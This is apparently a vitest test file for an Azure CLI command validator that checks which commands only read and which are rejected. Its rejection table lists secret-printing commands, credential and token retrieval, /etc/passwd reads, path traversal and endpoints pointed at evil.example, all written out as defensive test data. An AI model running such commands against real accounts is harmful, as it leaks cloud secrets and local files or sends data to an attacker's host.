import { describe, expect, it } from 'vitest';
import { createCli } from '../cli';
import { holdToSubscription } from './command';

const read = (text: string) => createCli({ searchPath: [] }).read('AZURE', text);

describe('what an Azure CLI command does', () => {
  it.each([
    'az vm list',
    'az vm show -g web -n vm-1',
    'az group exists -n web',
    'az graph query -q "Resources | count"',
    'az vm list-ip-addresses',
    'az account list-locations',
    'az disk show --ids /subscriptions/8f7e/resourceGroups/web/providers/Microsoft.Compute/disks/d',
  ])('%s reads', (text) => expect(read(text).reads).toBe(true));

  it.each([
    'az vm deallocate -g web -n vm-1',
    'az vm delete --ids x --yes',
    'az unheard of',
    'az vm create --name list',
  ])('%s changes', (text) => expect(read(text).reads).toBe(false));

  it('takes the subscription out of the command', () => {
    expect(read('az vm list --subscription 8f7e -d')).toMatchObject({
      args: ['vm', 'list', '-d'],
      place: { account: '8f7e', region: '' },
    });
  });
});

describe('what an Azure CLI command may not have', () => {
  it.each([
    ['az rest --method get --url x', '“az rest” cannot be run'],
    ['az login', 'cannot be run'],
    ['az logout', 'cannot be run'],
    ['az account set -n x', '“az account set” cannot be run'],
    ['az account get-access-token', 'cannot be run'],
    ['az extension add -n x', 'cannot be run'],
    ['az config set a=b', 'cannot be run'],
    ['az cloud register -n x', 'cannot be run'],
    ['az ssh vm -n x', 'cannot be run'],
    ['az webapp ssh -n x', 'cannot be run'],
    ['az container exec -n x', 'cannot be run'],
    ['az aks get-credentials -n x', 'cannot be run'],
    ['az vm list --debug', '--debug cannot be used'],
    ['az vm list --deb', '--deb cannot be used'],
    ['az keyvault secret show -n x', 'prints a secret'],
    ['az storage account keys list -n x', 'prints a secret'],
    ['az redis list-keys -n x', 'prints a secret'],
    ['az storage account show-connection-string -n x', 'prints a secret'],
    ['az ad sp create-for-rbac', 'prints a secret'],
    ['az acr credential show -n x', 'prints a secret'],
    ['az storage blob generate-sas -n x', 'prints a secret'],
    ['az webapp config appsettings list -n x', 'prints a secret'],
    ['az vm create --custom-data @/etc/passwd', '@/etc/passwd names a local file'],
    ['az vm create --custom-data=@x', 'names a local file'],
    ['az vm create --custom-data /etc/passwd', '/etc/passwd names a local file'],
    ['az vm create --tags a=/etc/passwd', 'names a local file'],
    ['az disk show --ids /subscriptions/../etc/passwd', 'names a local file'],
    ['az deployment group create --template-file /x', '/x names a local file'],
    [
      'az storage blob list --blob-endpoint https://evil.example',
      'is an address that the program would call',
    ],
    ['az graph query -q x --subscriptions x', '--subscriptions cannot be used'],
    ['az graph query -q x --management-group x', '--management-group cannot be used'],
    ['az graph query -q x -s other', '-s cannot be used'],
    ['az graph query -q x -mother', '-mother cannot be used'],
    ['az acr login -n x --expose-token', '“az acr login” cannot be run'],
    ['az batch account login -n x --show', '“az batch account login” cannot be run'],
    ['az acr x --expose-token', '--expose-token cannot be used'],
    ['az iot hub policy list -n x', 'prints a secret'],
    ['az iot dps policy show -n x', 'prints a secret'],
    ['az network express-route auth list -n x', 'prints a secret'],
    ['az network vnet-gateway vpn-client generate -n x', 'prints a secret'],
    ['az vm boot-diagnostics get-boot-log-uris -n x', 'prints a secret'],
    ['az webapp auth show -n x', 'prints a secret'],
    ['az webapp config backup list -n x', 'prints a secret'],
    ['az webapp config storage-account list -n x', 'prints a secret'],
    ['az webapp connection list-configuration -n x', 'prints a secret'],
    ['az webapp deployment container show-cd-url -n x', 'prints a secret'],
    ['az aro get-admin-kubeconfig -n x', 'prints a secret'],
    ['az acr connected-registry get-settings -n x', 'prints a secret'],
    ['az bot directline show -n x --show-secrets true', '--show-secrets prints a secret'],
    ['az bot directline show -n x --show-sec', '--show-sec prints a secret'],
    ['az ams asset show -n x --with-secrets', '--with-secrets prints a secret'],
    ['az acr task show -n x --with-secure-properties', '--with-secure-properties prints a secret'],
    ['az eventgrid event-subscription show --include-full-endpoint-url true', 'prints a secret'],
    ['az eventgrid event-subscription show --incl true', 'prints a secret'],
    ['az disk grant-access -n x', 'prints a secret'],
    ['az resource invoke-action --action listKeys', 'prints a secret'],
    ['az resource invoke-action --action beginGetAccess', 'prints a secret'],
    ['az resource invoke-action --action retrieveBootDiagnosticsData', 'prints a secret'],
    ['az resource invoke-action --action listCallbackUrl', 'prints a secret'],
    ['az resource invoke-action --action listBuildSourceUploadUrl', 'prints a secret'],
    ['az resource invoke-action --action=list --ids /subscriptions/a/config/appsettings', 'prints a secret'],
    ['az resource invoke-action --ids /subscriptions/a', 'prints a secret'],
    ['az storage blob list --account-name evil.example/', 'evil.example/ is an address'],
    ['az storage blob list --account-name=evil.example/', 'evil.example/ is an address'],
    ['az storage blob list --account-n a.example#', 'a.example# is an address'],
    ['az keyvault certificate list --vault evil.example/', 'evil.example/ is an address'],
    ['az acr repository list -n evil.example/', 'evil.example/ is an address'],
    ['az acr repository list --na evil.example/', 'evil.example/ is an address'],
    ['az acr task list -r evil.example/', 'evil.example/ is an address'],
    ['az acr repository list -nevil.example/#=x', 'evil.example/#=x is an address'],
    ['az acr repository list -nevil.example/', 'evil.example/ is an address'],
    ['az batch pool list --account-name x --account-endpoint evil.example', 'evil.example is an address'],
    ['az batch pool list --account-name x --account-e evil.example', 'evil.example is an address'],
    ['az appconfig kv list --endpoint evil.example', 'evil.example is an address'],
    ['az vm list --subscr x', 'Write --subscription in full'],
    ['az vm list -- x', '-- cannot be used'],
    ['az --output table vm list', 'Write --output after the command'],
    ['az', 'Say what the Azure CLI is to do'],
    ['aws ec2 describe-instances', 'must begin with “az”'],
  ])('%s', (text, message) => {
    expect(() => read(text)).toThrow(message);
  });

  it.each([
    'az storage blob list --account-name costs2026 --container-name a.b --prefix x/y.z',
    'az storage blob show --account-name costs2026 --name data.v1/day.csv',
    'az acr repository show -n costs --image web/app:1.2',
    'az iot hub show -n x',
    'az iot hub list',
    'az network express-route list',
    'az webapp config show -n x',
    'az webapp show -n authors',
    'az bot directline show -n x',
    'az storage blob list --account-name costs2026 --include d',
    'az network vnet subnet update -n s --service-endpoint Microsoft.Storage',
    'az batch pool list --account-name x --account-endpoint x.westeurope.batch.azure.com',
    'az resource invoke-action --action deallocate --ids /subscriptions/a/x',
    'az resource invoke-action --action=PowerOff --ids /subscriptions/a/x',
    'az monitor metrics list --workspace /subscriptions/a/resourceGroups/b',
  ])('but not at %s', (text) => {
    expect(() => read(text)).not.toThrow();
  });

  it('names of another subscription', () => {
    const command = read('az vm delete --ids /Subscriptions/AAAA/resourceGroups/g/x /subscriptions/bbbb/y');
    expect(() => holdToSubscription(command, 'aaaa')).toThrow('/subscriptions/bbbb/y is outside of aaaa');
    expect(() => holdToSubscription(read('az vm show --ids /subscriptions/aaaa/x'), 'AAAA')).not.toThrow();
  });
});
